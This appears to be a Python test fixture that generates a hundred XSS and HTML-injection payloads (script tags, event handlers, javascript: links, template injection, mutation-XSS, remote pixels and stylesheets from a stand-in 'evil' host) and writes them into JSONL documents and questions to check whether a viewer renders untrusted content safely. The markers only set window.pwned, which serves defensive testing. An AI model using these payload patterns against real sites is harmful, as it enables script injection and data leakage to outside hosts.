"""A hundred attacks on whoever shows a document or a question: scripts, frames, images, links, styles."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

_TEMPLATES = (
    '<img src="{evil}/pixel.png" onerror="{act}">',
    "<script>{act}</script>",
    "![picture]({evil}/markdown.png)",
    "[a link]({evil}/link) and javascript:{act}",
    '"><svg onload="{act}"></svg>',
    "${{{act}}} {{{{constructor.constructor('{act}')()}}}} `+{act}+`",
    '<iframe src="{evil}/frame"></iframe><form action="{evil}"><input autofocus onfocus="{act}"></form>',
    '<style>@import "{evil}/style.css"; body {{ background: url({evil}/background.png) }}</style>',
    "<a class='cite' href='#cite-0-1' data-ask='{act}'>trap</a>\u202e reversed \u202c",
    '<video src="{evil}/film.mp4" autoplay onloadstart="{act}"></video>',
    '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
    '<object data="{evil}/object"></object><embed src="{evil}/embed">',
    '<link rel="stylesheet" href="{evil}/link.css"><link rel="prefetch" href="{evil}/prefetch">',
    '<meta http-equiv="refresh" content="0;url={evil}/meta">',
    '<base href="{evil}/">',
    '<details open ontoggle="{act}"><summary>more</summary></details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{act}"></style></mglyph></table></mtext></math>',
    "</textarea></title></style></script><script>{act}</script>",
    '<svg><animate onbegin="{act}" attributeName="x" dur="1s"/><use href="{evil}/use.svg#a"/></svg>',
    '<a href="jAvAsCrIpT:{act}" ping="{evil}/ping">go</a>',
    '<input type="image" src="{evil}/input.png" onerror="{act}"><button formaction="{evil}/button">send</button>',
    "&lt;script&gt;{act}&lt;/script&gt; &#60;img src=x onerror={act}&#62;",
    '<template shadowrootmode="open"><img src="{evil}/shadow.png" onerror="{act}"></template>',
    '<p style="background-image:url({evil}/style.png)" onmouseover="{act}" tabindex=0 autofocus>x</p>',
    "<scr\x00ipt>{act}</scr\x00ipt><IMG SRC=x\tonerror\n=\n\"{act}\">\u2028<!--><img src=x onerror='{act}'>-->",
)
PLACES = ("text", "title", "metadata", "question")
"""Where each attack stands: in a text, a title, publisher with author, link and file name, or in a question."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack in one place; if it runs, `window.pwned` of the page is its number."""

    number: int
    place: str
    template: str

    def written(self, evil: str) -> str:
        """The attack, fetching from `evil` ("http://host") what it can."""
        return self.template.format(evil=f"{evil}/{self.number}", act=f"window.pwned={self.number}")


PAYLOADS = tuple(
    Payload(number, PLACES[number // len(_TEMPLATES)], _TEMPLATES[number % len(_TEMPLATES)])
    for number in range(len(PLACES) * len(_TEMPLATES))
)
IN_DOCUMENTS = tuple(payload for payload in PAYLOADS if payload.place != "question")
IN_QUESTIONS = tuple(payload for payload in PAYLOADS if payload.place == "question")


def question_about(payload: Payload) -> str:
    """What the document of a payload answers, with a figure that no other tells."""
    return f"how many workers were killed at quarry Q{payload.number}X?"


def write_payloads(folder: Path, evil: str) -> None:
    """A document for each payload that stands in one, each in a file of its own in a new folder."""
    folder.mkdir(parents=True)
    for payload in IN_DOCUMENTS:
        attack = payload.written(evil)
        place = payload.place
        inside, number = attack if place == "text" else "", payload.number
        row = {
            "title": f"Report {number} {attack if place == 'title' else ''}",
            "publisher": attack if place == "metadata" else "Granite Gazette",
            "author": attack if place == "metadata" else None,
            "url": f"javascript:window.pwned={number}" if place == "metadata" else f"{evil}/{number}/original",
            "language": "en",
            "text": (
                f"The company said that {100 + number} workers were killed at quarry Q{number}X in March 2019 "
                f"{inside}. The union said that {300 + number} workers were killed at quarry Q{number}X. {inside}"
            ),
        }
        name = attack.replace("/", "∕").replace("\0", "")[:80] if place == "metadata" else ""
        known = {key: value for key, value in row.items() if value is not None}
        (folder / f"{number:02d}{name}.jsonl").write_text(json.dumps(known, ensure_ascii=False) + "\n", "utf-8")
